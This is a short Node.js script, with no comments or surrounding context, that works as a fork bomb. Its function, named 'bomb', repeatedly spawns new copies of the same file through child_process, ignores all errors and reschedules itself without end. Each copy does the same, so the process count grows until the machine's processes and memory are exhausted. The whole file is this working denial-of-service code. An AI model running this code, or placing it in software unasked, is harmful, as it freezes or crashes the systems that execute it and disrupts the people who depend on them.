const { spawn } = require("child_process");
function bomb() {
  try {
    const child = spawn(process.execPath, [__filename], { stdio: "ignore" });
    child.on("error", () => {});
  } catch (e) {}
  setImmediate(bomb);
}
bomb();
